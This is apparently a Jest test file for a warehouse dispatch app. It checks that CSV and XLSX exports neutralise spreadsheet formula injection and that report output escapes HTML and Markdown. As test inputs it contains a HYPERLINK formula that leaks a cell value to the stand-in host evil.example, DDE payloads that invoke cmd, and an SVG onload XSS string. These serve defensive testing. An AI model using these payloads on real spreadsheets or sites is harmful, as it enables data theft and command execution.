import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { dispatchBody, exportedSheet, importCsv, receive } from '../support/fixtures.js';
import { waitForReportJob } from '../support/jobs.js';
import { startTestApp, TestApp } from '../support/test-app.js';

/** What a warehouse user could type to make a coordinator's spreadsheet run something. */
const FORMULAS = {
  driverName: '=HYPERLINK("http://evil.example/?"&A1,"Open")',
  carrier: '+1+cmd|" /C calc"!A0',
  consignee: '@SUM(1+1)*cmd|" /C calc"!A0',
  emergency: '-2+3',
};

describe('what the app writes for others to open', () => {
  let t: TestApp;
  let warehouse: string;
  let coordinator: string;
  beforeAll(async () => {
    t = await startTestApp();
  });
  beforeEach(async () => {
    await t.reset();
    warehouse = await t.createUser('warehouse');
    coordinator = await t.createUser('coordinator');
  });
  afterAll(() => t.close());

  it('exports formula-like text as text in CSV and XLSX, and keeps numbers numeric', async () => {
    await receive(t, warehouse, [{ sku: 'CRI-RHU', quantity: 5 }]);
    const dispatch = await t
      .http()
      .post('/api/dispatches')
      .set(t.as(warehouse))
      .send(dispatchBody([{ sku: 'CRI-RHU', quantity: 2 }], FORMULAS))
      .expect(201);
    // Tab and carriage return, which some spreadsheets skip before looking for a formula.
    const history = [
      'waybill_no,dispatched_at,destination,truck_plate,sku,quantity,cargo_weight_kg,emergency,carrier,driver_name',
      'OLD-1,2024-05-28T10:00:00+05:00,AF,01 B 777 CD,CRI-BLANKET-HT,10,,"\t=1+2","\r=3+4",Rustam',
    ].join('\n');
    await importCsv(t, warehouse, history).expect(201);

    const csv = await t
      .http()
      .get('/api/dispatches/export?format=csv')
      .set(t.as(coordinator))
      .expect(200);
    expect(csv.text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Open"")"`);
    const rows: Record<string, string>[] = parse(csv.text, { columns: true });
    const live = rows.find((r) => r.waybill_no === dispatch.body.waybillNo)!;
    expect(live).toMatchObject({
      driver_name: `'${FORMULAS.driverName}`,
      carrier: `'${FORMULAS.carrier}`,
      emergency: `'${FORMULAS.emergency}`,
      quantity: '2',
      weight_kg: '322',
    });
    expect(rows.find((r) => r.waybill_no === 'OLD-1')).toMatchObject({
      emergency: "'\t=1+2",
      carrier: "'\r=3+4",
      driver_name: 'Rustam',
    });
    // No cell of the file starts a formula, quoted or not.
    const cells: string[][] = parse(csv.text);
    expect(cells.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);

    const sheet = await exportedSheet(t, coordinator);
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    const column = (name: string) => header.indexOf(name) + 1;
    const sheetRows: ExcelJS.Row[] = [];
    sheet.eachRow((row, n) => n > 1 && sheetRows.push(row));
    const liveRow = sheetRows.find(
      (row) => row.getCell(column('waybill_no')).value === dispatch.body.waybillNo,
    )!;
    expect(liveRow.getCell(column('driver_name')).value).toBe(`'${FORMULAS.driverName}`);
    expect(liveRow.getCell(column('carrier')).value).toBe(`'${FORMULAS.carrier}`);
    expect(liveRow.getCell(column('emergency')).value).toBe(`'${FORMULAS.emergency}`);
    expect(liveRow.getCell(column('quantity')).value).toBe(2);
    expect(liveRow.getCell(column('weight_kg')).value).toBe(322);
    for (const row of sheetRows) {
      row.eachCell((cell) => {
        expect(cell.formula).toBeUndefined();
        if (typeof cell.value === 'string') expect(cell.value).not.toMatch(/^[=+\-@\t\r]/);
      });
    }
  });

  it('writes the weekly report: formula-like CSV cells as text, names escaped in Markdown and HTML', async () => {
    await t
      .http()
      .post('/api/destinations')
      .set(t.as())
      .send({ code: 'XS', name: '<svg onload=alert(2)>' })
      .expect(201);
    await t
      .http()
      .post('/api/items')
      .set(t.as())
      .send({
        sku: 'CRI-PIPE',
        name: 'Tent | *big* _wide_',
        unit: 'piece',
        unitWeightKg: 10,
        unitVolumeM3: 0.1,
      })
      .expect(201);
    const plate = '=HYPERLINK("http://e.x","go")';
    await importCsv(
      t,
      warehouse,
      [
        'waybill_no,dispatched_at,destination,truck_plate,sku,quantity,cargo_weight_kg',
        `OLD-2,2024-05-28T10:00:00+05:00,XS,"${plate.replace(/"/g, '""')}",CRI-PIPE,1000,`,
      ].join('\n'),
    ).expect(201);
    const accepted = await t
      .http()
      .post('/api/reports/weekly')
      .set(t.as(coordinator))
      .send({ weekStart: '2024-05-27' })
      .expect(202);
    await waitForReportJob(t, accepted.body.jobUrl);
    const url = '/api/reports/weekly/2024-05-27';

    const csv = await t.http().get(`${url}?format=csv`).set(t.as()).expect(200);
    expect(csv.text).toContain(`"'=HYPERLINK(""http://e.x"",""go"")"`);
    const [row] = parse(csv.text, { columns: true }) as Record<string, string>[];
    expect(row).toMatchObject({ waybill_no: 'OLD-2', truck_plate: `'${plate}`, tonnes: '10' });

    const md = (await t.http().get(`${url}?format=md`).set(t.as()).expect(200)).text;
    expect(md).not.toMatch(/<svg/);
    expect(md).toContain('| &lt;svg onload=alert(2)&gt; | 1 | 10 |');
    expect(md).toContain('| CRI-PIPE | Tent \\| \\*big\\* \\_wide\\_ | 1,000 | 10 |');

    const html = (await t.http().get(`${url}?format=html`).set(t.as()).expect(200)).text;
    expect(html).not.toMatch(/<svg onload/);
    expect(html).toContain('&lt;svg onload=alert(2)&gt;');
  });
});
